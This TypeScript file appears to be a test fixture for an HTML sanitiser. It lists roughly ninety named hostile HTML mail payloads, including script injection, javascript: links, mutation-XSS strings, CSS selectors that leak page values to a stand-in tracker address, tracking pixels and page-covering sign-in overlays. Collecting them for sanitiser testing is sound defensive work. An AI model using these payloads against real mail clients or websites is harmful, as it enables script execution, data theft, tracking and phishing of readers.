export interface Trick {
	readonly name: string;
	readonly html: string;
}

/** Runs wherever a script of the trick does, and is seen: a line on the console, a dialog, a request. */
const run = "console.log('RAN');alert(1);new Image().src='TRACK/run'";
const attribute = "console.log('RAN');alert(1);new Image().src=&quot;TRACK/run&quot;";
const control = (code: number) => String.fromCharCode(code);

/**
 * What hostile mail does in HTML: scripts, requests that tell that it was read, styles that draw over the page or read
 * it out, and markup that a sanitiser and a browser read differently. `TRACK` stands for the address of a tracker.
 * After OWASP's filter evasion sheet, html5sec.org, the advisories of DOMPurify and sanitize-html, and the tracking of
 * newsletters.
 */
const collection: Readonly<Record<string, string>> = {
	// Scripts.
	'a script': `<script>${run}</script>`,
	'a script from elsewhere': '<script src="TRACK/script.js"></script>',
	'a module and an import map': `<script type="importmap">{"imports":{"x":"TRACK/x.js"}}</script><script type="module">import 'TRACK/m.js'</script>`,
	'a script in upper case with a newline in its tag': `<SCRIPT\n>${run}</SCRIPT\n>`,
	'a script in two pieces': `<scr<script></script>ipt>${run}</scr<script></script>ipt>`,
	'a script that is never closed': `<script>${run}`,
	'a script behind a NUL octet': `<scr${control(0)}ipt>${run}</scr${control(0)}ipt>`,
	'an error handler of a picture': `<img src="x:" onerror="${attribute}">`,
	'an error handler without quotes or blanks': `<img/src=x:/onerror=alert(1)>`,
	'a handler behind a slash and a form feed': `<p${control(12)}onmouseover="${attribute}"/onclick="${attribute}">move here</p>`,
	'a handler behind a broken attribute': `<p title='a"b' ' onpointerenter="${attribute}">move</p>`,
	'a loaded body': `<body onload="${attribute}" onpageshow="${attribute}" onhashchange="${attribute}">text`,
	'autofocus with a handler': `<input autofocus onfocus="${attribute}"><select autofocus onfocus="${attribute}"></select><p tabindex=0 autofocus onfocus="${attribute}">x</p>`,
	'a details element that opens': `<details open ontoggle="${attribute}"><summary>x</summary></details>`,
	'a marquee': `<marquee onstart="${attribute}" behavior="alternate"><b>x</b></marquee>`,
	'a transition and an animation that end': `<style>@keyframes k{to{color:red}}</style><p style="animation:k 1ms;transition:color 1ms" onanimationend="${attribute}" ontransitionend="${attribute}">x</p>`,
	'a media element with an error': `<video onerror="${attribute}" src="TRACK/v.mp4"><source onerror="${attribute}" src="TRACK/w.mp4"></video><audio src="TRACK/a.mp3" autoplay oncanplay="${attribute}"></audio>`,
	'a popover with a handler': `<p popover id=p onbeforetoggle="${attribute}">x</p><button popovertarget=p>press</button>`,
	'a javascript link': `<a href="javascript:${run}">press me</a>`,
	'a javascript link with entities': `<a href="&#106;&#97;vascript&colon;alert&lpar;1&rpar;">press me</a><a href="&#x6A;avascript:alert(1)">and me</a>`,
	'a javascript link with control characters': `<a href="${control(1)}java${control(9)}scr${control(10)}ipt:alert(1)">press me</a>`,
	'a javascript link in mixed case behind blanks': `<a href=" \n JaVaScRiPt:alert(1)">press me</a>`,
	'a vbscript and a livescript link': `<a href="vbscript:msgbox(1)">a</a><a href="livescript:x">b</a>`,
	'a data page as link': `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press me</a>`,
	'a view-source, blob and filesystem link': `<a href="view-source:TRACK/v">a</a><a href="blob:TRACK/b">b</a><a href="filesystem:TRACK/f">c</a>`,
	'a link for the whole window':
		'<a href="TRACK/top" target="_top">press me</a><a href="TRACK/parent" target="_parent" ping="TRACK/ping">me</a>',
	'a link that downloads and pings': '<a href="TRACK/d" download ping="TRACK/ping2" rel="opener">save</a>',
	'an image map':
		'<img src="TRACK/map.png" usemap="#m"><map name="m"><area shape="default" href="javascript:alert(1)" ping="TRACK/area"></map>',

	// Frames, plug-ins and documents in documents.
	'a frame': '<iframe src="TRACK/frame.html"></iframe>',
	'a frame with its own document': `<iframe srcdoc="&lt;script&gt;${attribute}&lt;/script&gt;&lt;img src=TRACK/srcdoc.png&gt;"></iframe>`,
	'a frame of javascript': `<iframe src="javascript:alert(1)"></iframe><frameset><frame src="TRACK/f"></frameset>`,
	'a fenced frame and a portal': '<fencedframe src="TRACK/ff"></fencedframe><portal src="TRACK/portal"></portal>',
	'an object and an embed': `<object data="TRACK/o.swf" type="application/x-shockwave-flash"><param name="movie" value="TRACK/p.swf"></object><embed src="TRACK/e.svg" type="image/svg+xml">`,
	'an applet': '<applet codebase="TRACK/" code="A.class" archive="TRACK/a.jar"></applet>',
	'an object of a data page': `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
	'a shadow root and a template': `<template><img src=TRACK/t onerror="${attribute}"></template><div><template shadowrootmode=open><style>@import 'TRACK/shadow.css'</style><img src=TRACK/s></template></div>`,

	// The head's ways to load and to go elsewhere.
	'a base address': '<base href="TRACK/base/" target="_top"><img src="picture.png"><a href="page">x</a>',
	'a refresh': '<meta http-equiv="refresh" content="0;url=TRACK/refresh">',
	'a refresh to javascript': '<META HTTP-EQUIV="Refresh" CONTENT="0;URL=javascript:alert(1)">',
	'a weaker policy': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${run}</script>`,
	'a charset change': `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	'hints to connect and to fetch':
		'<link rel="dns-prefetch" href="TRACK/"><link rel="preconnect" href="TRACK/"><link rel="prefetch" href="TRACK/prefetch"><link rel="preload" as="image" href="TRACK/preload.png"><link rel="modulepreload" href="TRACK/mp.js"><link rel="prerender" href="TRACK/prerender">',
	'a style sheet, an icon and a manifest':
		'<link rel="stylesheet" href="TRACK/s.css"><link rel="icon" href="TRACK/i.ico"><link rel="manifest" href="TRACK/m.json"><link rel="alternate stylesheet" title="a" href="TRACK/alt.css">',
	'speculation rules': `<script type="speculationrules">{"prerender":[{"source":"list","urls":["TRACK/spec"]}]}</script>`,

	// Pictures and what else tells that a mail was read.
	'a tracking picture': '<img src="TRACK/pixel.gif" width="1" height="1">',
	'a picture without a scheme':
		'<img src="//TRACKHOST/schemeless.gif"><img src="\\\\TRACKHOST\\back.gif"><img src="/\\TRACKHOST/slash.gif">',
	'a set of pictures':
		'<img srcset="TRACK/1x.png 1x, TRACK/2x.png 2x" sizes="100vw"><picture><source srcset="TRACK/source.webp" type="image/webp"><img src="TRACK/fallback.png"></picture>',
	'a low-resolution and a long description':
		'<img lowsrc="TRACK/low.gif" dynsrc="TRACK/dyn.avi" longdesc="TRACK/long" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
	'a poster, a track and a source':
		'<video poster="TRACK/poster.png" controls><track src="TRACK/track.vtt" default><source src="TRACK/source.mp4"></video>',
	'a background of the body and of tables':
		'<body background="TRACK/body.png"><table background="TRACK/table.png"><tr background="TRACK/tr.png"><td background="TRACK/td.png">x</td></tr></table>',
	'a picture button and an icon':
		'<form action="TRACK/f"><input type="image" src="TRACK/button.png"></form><command icon="TRACK/c.png"><menuitem icon="TRACK/mi.png">',
	'a citation and a manifest of the page':
		'<html manifest="TRACK/appcache"><blockquote cite="TRACK/cite">x</blockquote><q cite="TRACK/q">y</q><head profile="TRACK/profile">',
	'sounds of old':
		'<bgsound src="TRACK/b.mid"><xml src="TRACK/x.xml" id=i></xml><layer src="TRACK/l"></layer><ilayer src="TRACK/il"></ilayer>',
	'a picture named by a Content-ID that is an address':
		'<img src="cid:x&quot; onerror=&quot;alert(1)"><img src="cid:TRACK/cid.png"><img src="cid:unknown@message"><img src="CID:&#10;a@b">',
	'a picture of SVG in a data address': `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=">`,

	// Styles.
	'a style sheet with an import': `<style>@import "TRACK/import.css"; @import url(TRACK/import2.css); @font-face{font-family:f;src:url(TRACK/font.woff)} body{font-family:f;background:url(TRACK/bg.png)}</style>`,
	'a background of a style':
		'<p style="background:url(TRACK/bg1.png)">a</p><p style="background-image:url(&quot;TRACK/bg2.png&quot;)">b</p><p style="list-style:url(TRACK/bg3.png)">c</p><p style="border-image:url(TRACK/bg4.png) 1">d</p>',
	'a background in many spellings': String.raw`<p style="background:u\72l(TRACK/e1.png)">a</p><p style="background:\75\72\6C(TRACK/e2.png)">b</p><p style="background:url/**/(TRACK/e3.png)">c</p><p style="b\61ckground:URL('TRACK/e4.png')">d</p><p style="background&#58;url(TRACK/e5.png)">e</p><p style="/*;*/background:/**/url(TRACK/e6.png)">f</p><p style="color:red;'background:url(TRACK/e7.png)">g</p>`,
	'pictures by other functions of styles': `<p style="background:image-set('TRACK/is.png' 1x)">a</p><p style="background:-webkit-image-set(url(TRACK/wis.png) 1x)">b</p><p style="background:cross-fade(url(TRACK/cf.png),red)">c</p><p style="content:url(TRACK/content.png)">d</p><p style="cursor:url(TRACK/c.cur),auto">e</p><p style="filter:url(TRACK/f.svg#x);mask:url(TRACK/m.svg);clip-path:url(TRACK/cp.svg#x);shape-outside:url(TRACK/so.png)">f</p><p style="offset-path:url(TRACK/op.svg#p)">g</p>`,
	'a style that carries an address in a variable': `<p style="--a:url(TRACK/var.png);background:var(--a)">a</p><p style="background:src('TRACK/src.png')">b</p>`,
	'styles that read the page out': `<style>input[value^="a"]{background:url(TRACK/leak-a)} a[href*="token"]{background:url(TRACK/leak-b)} @font-face{font-family:l;src:url(TRACK/leak-c);unicode-range:U+0041} p:first-letter{font-family:l}</style><input value="abc">`,
	'styles of old browsers': `<p style="width:expression(alert(1))">a</p><p style="behavior:url(TRACK/b.htc)">b</p><p style="-moz-binding:url(TRACK/x.xml#x)">c</p><p style="background:javascript:alert(1)">d</p>`,
	'a cover over the page': `<div style="position:fixed;top:0;left:0;right:0;bottom:0;width:100vw;height:100vh;z-index:2147483647;background:white"><a href="TRACK/click">Sign in again</a></div><p style="position:absolute;margin:-9999px;transform:scale(50);opacity:0.01">x</p>`,
	'a scroll that tells': `<p style="background:attr(data-x url)" data-x="TRACK/attr.png">a</p><div style="view-transition-name:x;container-type:size">b</div><a href="#:~:text=secret">c</a>`,

	// Forms.
	'a form':
		'<form action="TRACK/form" method="post"><input name="password" type="password" value="x"><button formaction="TRACK/fa">Sign in</button></form>',
	'a form from outside of itself':
		'<form id="f" action="TRACK/form2"></form><button form="f" formaction="javascript:alert(1)">press</button><isindex action="TRACK/isindex" prompt="x"><keygen name=k autofocus onfocus=alert(1)>',

	// What two parsers read in two ways.
	'SVG with a script': `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><image href="TRACK/svg.png" xlink:href="TRACK/svg2.png"/><use href="TRACK/u.svg#x"/><foreignObject><img src="TRACK/fo.png"></foreignObject><a xlink:href="javascript:alert(1)"><text y="20">press</text></a></svg>`,
	'SVG that animates an address': `<svg><a id="x"><text y="20">press</text></a><animate href="#x" attributeName="href" values="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></svg>`,
	'SVG with a style in it': `<svg><style>@import 'TRACK/svg.css';*{fill:url(TRACK/fill.svg#a)}</style><style><img src="TRACK/insvg.png" onerror="${attribute}"></style></svg>`,
	'MathML with links and actions': `<math href="javascript:alert(1)"><maction actiontype="statusline#TRACK/m" xlink:href="javascript:alert(1)">press<mtext>x</mtext></maction></math>`,
	'MathML that turns into HTML': `<math><annotation-xml encoding="text/html"><style><img src="TRACK/annotation.png" onerror="${attribute}"></style></annotation-xml></math>`,
	'a mutation through nested tables and MathML': `<form><math><mtext></form><form><mglyph><style></math><img src="TRACK/mx1.png" onerror="${attribute}">`,
	'a mutation through a comment in a style': `<svg></p><style><a id="</style><img src=TRACK/mx2.png onerror=alert(1)>">`,
	'a mutation through a title attribute': `<noscript><p title="</noscript><img src=TRACK/mx3.png onerror=alert(1)>"></noscript>`,
	'a mutation through a deep tree': `${'<div>'.repeat(600)}<table><caption><svg><desc><table><caption></table></svg><style><a title="</style><img src=TRACK/mx4.png onerror=alert(1)>"></a></style>${'</div>'.repeat(600)}`,
	'a mutation through an old raw text element': `<xmp><p title="</xmp><img src=TRACK/xmp.png onerror=alert(1)>"></xmp><noembed><img src="TRACK/ne.png"></noembed><noframes><img src="TRACK/nf.png" title="</noframes><img src=TRACK/nf2.png onerror=alert(1)>"></noframes>`,
	'a text area and a title that end early': `<textarea><img title="</textarea><img src=TRACK/ta.png onerror=alert(1)>"></textarea><title><img alt="</title><img src=TRACK/ti.png onerror=alert(1)>"></title>`,
	'plain text without end': `<listing>&lt;img src=TRACK/listing.png onerror=alert(1)&gt;</listing><plaintext><img src="TRACK/plain.png" onerror="${attribute}">`,
	'a comment that ends early': `<!--><img src="TRACK/c1.png" onerror="${attribute}">--><!---><img src="TRACK/c2.png">--><!-- --!><img src="TRACK/c3.png" onerror=alert(1)>--><!-- <!-- --> <img src="TRACK/c4.png">`,
	'a conditional comment': `<!--[if gte IE 4]><script>${run}</script><img src="TRACK/ie.png"><![endif]--><!--[if !mso]><!--><img src="TRACK/notmso.png"><!--<![endif]--><![if !IE]><img src="TRACK/down.png"><![endif]>`,
	'a processing instruction, a declaration and CDATA': `<?xml-stylesheet href="TRACK/pi.css"?><!ENTITY x SYSTEM "TRACK/ent"><!DOCTYPE html SYSTEM "TRACK/dtd"><![CDATA[<img src="TRACK/cdata.png" onerror="alert(1)">]]><%<img src="TRACK/asp.png">%>`,
	'VML and Office markup': `<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type="frame" src="TRACK/vml.png"/><v:imagedata src="TRACK/vml2.png"/></v:rect><o:p><img src="TRACK/o.png"></o:p><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml>`,
	'AMP for mail': `<html amp4email><amp-img src="TRACK/amp.png" width=1 height=1></amp-img><amp-list src="TRACK/amp.json"></amp-list><amp-form action-xhr="TRACK/ampform"></amp-form><script async src="TRACK/v0.js"></script>`,
	'elements of one’s own': `<x-frame src="TRACK/x" onclick="${attribute}" is="script">press</x-frame><img is="x-a" src="TRACK/is.png"><p itemscope itemid="TRACK/item" itemtype="TRACK/type" rdf:about="TRACK/rdf">x</p>`,
	'an open tag at the end': `<p>text <img src="TRACK/open.png" onerror="${attribute}"`,
	'quotes of other scripts and a backtick': `<img src=\`TRACK/tick.png\` onerror=\`alert(1)\`><img src=“TRACK/quote.png” onerror=“alert(1)”>`,
	'letters that fold into others': `<ſcript>${run}</ſcript><img ſrc="TRACK/fold.png" onerror="alert(1)"><ımg src=TRACK/dotless.png><a href="javaſcript:alert(1)">press</a>`,
	'overlong and half-width letters': `＜script＞alert(1)＜/script＞<a href="ｊavascript:alert(1)">press</a>\u202e<a href="TRACK/\u202egnp.exe">\u2066photo.png\u2069</a>`,
	'names that shadow those of a page': `<img name="cookie"><form id="location" name="document"><input name="attributes" id="body"></form><a id="defaultView" name="currentScript" href="TRACK/clobber">x</a><p id="__proto__" class="constructor">x</p>`,
	'a text that only looks harmless twice decoded': `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &lt;img src=TRACK/once.png onerror=alert(1)&gt;`,
	'a handler that a tag name carries': `<img/onerror=alert(1)//src=x:><p/=onclick=alert(1)>x</p><p """onclick=alert(1)>y</p><br/src="TRACK/br.png"/onload=alert(1)>`,
};

/** The collection with a tracker's address, `http://host:port`, in it. */
export const maliciousHtml = (tracker: string): readonly Trick[] =>
	Object.entries(collection).map(([name, html]) => ({
		name,
		html: html.replaceAll('TRACKHOST', new URL(tracker).host).replaceAll('TRACK', tracker),
	}));
